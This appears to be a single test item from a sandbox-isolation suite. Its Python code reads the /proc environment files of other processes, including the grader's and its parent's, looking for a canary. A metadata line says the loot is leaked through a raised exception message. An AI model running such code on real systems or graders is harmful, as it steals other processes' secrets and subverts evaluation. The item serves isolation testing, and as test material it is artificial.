# title = "Reads /proc for other processes' commands, environments and files"
# tries = "The grader's own entry, its parents' and everybody's."
# answer = "raise ArithmeticError(str(loot))"
# stops = ["namespaces", "landlock"]
import glob

loot = ""
for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/@PARENT@/environ"]:
    try:
        with open(path, errors="replace") as file:
            text = file.read()
    except OSError:
        continue
    if "canary" in text:
        loot = carry_out(text)
